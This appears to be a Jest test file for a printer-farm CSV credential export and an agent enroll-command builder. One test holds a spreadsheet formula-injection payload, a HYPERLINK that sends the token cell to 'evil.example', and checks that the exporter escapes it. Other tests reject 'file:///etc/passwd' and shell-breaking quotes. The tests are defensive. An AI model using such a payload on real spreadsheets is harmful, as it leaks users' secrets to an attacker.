import { parse } from 'csv-parse/sync';
import { issueEnrollmentToken } from '../codes/secret-token';
import { agentEnrollCommand } from './agent-command';
import { buildCredentialsCsv } from './credentials-csv';
import type { PrinterCredentialExport } from './credentials-csv';

const SERVER = { serverUrl: 'https://farm.example.com/' };

function credential(overrides: Partial<PrinterCredentialExport> = {}): PrinterCredentialExport {
  return {
    name: 'Prusa-01',
    serial: 'SN-001',
    fleet: 'Workshop A',
    token: issueEnrollmentToken().token,
    expiresAt: new Date('2030-01-02T03:04:05.000Z'),
    ...overrides,
  };
}

describe('buildCredentialsCsv', () => {
  it('writes a header and one CRLF line per printer with the exact agent command', () => {
    const entry = credential();

    const csv = buildCredentialsCsv([entry], { ...SERVER, bom: false });

    expect(csv).toBe(
      'name,serial,fleet,token,expires_at,agent_command,kind,address\r\n' +
        `Prusa-01,SN-001,Workshop A,${entry.token},2030-01-02T03:04:05.000Z,` +
        `curl -fsSL https://farm.example.com/agent/install.sh | sh -s -- enroll --server https://farm.example.com --token ${entry.token},,\r\n`,
    );
  });

  it('carries the kind and LAN address a farm gateway enrolls from (the OctoPrint URL when no address)', () => {
    const rows = parse(
      buildCredentialsCsv(
        [
          credential({ kind: 'moonraker', address: 'http://10.0.0.22:7125/' }),
          credential({ name: 'Octo', octoprintUrl: 'http://10.0.0.5:5000/' }),
        ],
        { ...SERVER, bom: false },
      ),
      { columns: true },
    ) as Array<Record<string, string>>;
    expect(rows.map((row) => [row.kind, row.address])).toEqual([
      ['moonraker', 'http://10.0.0.22:7125/'],
      ['octoprint', 'http://10.0.0.5:5000/'],
    ]);
  });

  it('starts with a UTF-8 BOM by default so that spreadsheets read accents', () => {
    const csv = buildCredentialsCsv([credential({ name: 'Drucker-Müller' })], SERVER);

    expect(csv.startsWith('\ufeffname,')).toBe(true);
    expect(csv).toContain('Drucker-Müller');
  });

  it('escapes formula cells from an uploaded CSV so a spreadsheet never runs them', () => {
    const entries = [
      credential({ name: '=HYPERLINK("http://evil.example/?t="&D2,"Click")', serial: '+1', fleet: '@SUM(A1)' }),
      credential({ name: '-2+3', serial: '\t=1' }),
    ];

    const rows = parse(buildCredentialsCsv(entries, SERVER), { bom: true }) as string[][];

    expect(rows.slice(1).map(([name, serial, fleet]) => [name, serial, fleet])).toEqual([
      [`'=HYPERLINK("http://evil.example/?t="&D2,"Click")`, "'+1", "'@SUM(A1)"],
      ["'-2+3", "'\t=1", 'Workshop A'],
    ]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves the serial cell empty when a printer has none and adds --octoprint-url when given', () => {
    const entry = credential({ serial: null, octoprintUrl: 'http://10.0.0.5:5000/' });

    const [, row] = parse(buildCredentialsCsv([entry], SERVER), { bom: true }) as string[][];

    expect(row[1]).toBe('');
    expect(row[5]).toBe(
      `curl -fsSL https://farm.example.com/agent/install.sh | sh -s -- enroll --server https://farm.example.com --token ${entry.token} --octoprint-url http://10.0.0.5:5000/`,
    );
  });
});

describe('agentEnrollCommand', () => {
  it('writes the bundle form with plain node', () => {
    const { token } = issueEnrollmentToken();

    expect(agentEnrollCommand(token, { ...SERVER, form: 'bundle' })).toBe(
      `node farmhand-agent.cjs enroll --server https://farm.example.com --token ${token}`,
    );
  });

  it('quotes arguments a shell would interpret', () => {
    const { token } = issueEnrollmentToken();

    const command = agentEnrollCommand(token, SERVER, "http://op.lan/?a=1&b='2'");

    expect(command.endsWith(`--octoprint-url 'http://op.lan/?a=1&b='\\''2'\\'''`)).toBe(true);
  });

  it.each([
    ['a malformed token', 'fh_enr_nope', SERVER.serverUrl],
    ['an agent credential instead of an enrollment token', 'agent', SERVER.serverUrl],
    ['a server URL with credentials', 'enrollment', 'https://user:pass@farm.example.com'],
    ['a non-http server URL', 'enrollment', 'file:///etc/passwd'],
    ['a server URL with a query', 'enrollment', 'https://farm.example.com/?x=1'],
  ])('throws on %s', (_label, tokenKind, serverUrl) => {
    const token =
      tokenKind === 'enrollment'
        ? issueEnrollmentToken().token
        : tokenKind === 'agent'
          ? issueEnrollmentToken().token.replace('fh_enr_', 'fh_agent_')
          : tokenKind;

    expect(() => agentEnrollCommand(token, { serverUrl })).toThrow(TypeError);
  });
});
